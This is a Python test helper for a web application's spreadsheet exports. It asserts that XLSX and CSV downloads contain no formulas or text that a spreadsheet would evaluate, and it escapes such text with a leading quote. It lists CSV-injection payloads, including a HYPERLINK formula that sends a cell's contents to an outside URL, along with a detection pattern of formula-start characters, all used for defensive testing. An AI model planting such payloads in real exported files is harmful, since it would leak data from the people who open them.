"""What a spreadsheet program would do with a downloaded file: the checks every export test runs
(invariant 6, issue 15 §4).

A cell is evaluated when it is a formula cell in an XLSX file (openpyxl reads it with
``data_type == "f"``), or when its text, as a spreadsheet reads it, starts with one of the
characters that open a formula or a command (OWASP's CSV-injection list, and their full-width
forms, which some spreadsheet programs read as the ASCII ones). A spreadsheet may trim leading
whitespace first, so a text that starts with spaces is read from its first other character. A
plain number (``-2``, ``7``, ``0.5``) is read as a number, not evaluated."""

import csv
import io
import re

from openpyxl import load_workbook

#: what an attacker types into a name, an answer or a title
PAYLOADS = (
    '=HYPERLINK("http://x?leak="&B2,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    " =1",
    "\uff1d1+1",  # full-width equals sign
)

FORMULA_STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def evaluable(text):
    """Whether a spreadsheet program would evaluate ``text`` typed into (or read into) a cell."""
    if not text or PLAIN_NUMBER.fullmatch(text):
        return False
    first, first_shown = text[0], text.lstrip(" \ufeff\u00a0\u3000\n\x0b\x0c")[:1]
    return first in FORMULA_STARTS or (first_shown != "" and first_shown in FORMULA_STARTS)


def xlsx_cells(content):
    """Every cell of every sheet of an XLSX file, after asserting that none is a formula and no
    text would become one when its cell is edited or the sheet is saved as CSV."""
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}: {cell.value!r} is {cell.data_type}"
                    assert not evaluable(cell.value), f"{sheet.title}!{cell.coordinate} starts a formula: {cell.value!r}"
                cells.append(cell)
    assert b"<f>" not in _sheet_xml(content) and b"<f " not in _sheet_xml(content)
    return cells


def _sheet_xml(content):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))


def csv_fields(content):
    """Every field of a CSV file, after asserting that a spreadsheet would evaluate none."""
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    fields = [field for row in rows for field in row]
    for field in fields:
        assert not evaluable(field), f"a spreadsheet evaluates {field!r}"
    return rows


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def shown_as_text(stored):
    """How a stored text that starts a formula must appear in a download: behind a single quote."""
    return "'" + stored if evaluable(stored) else stored
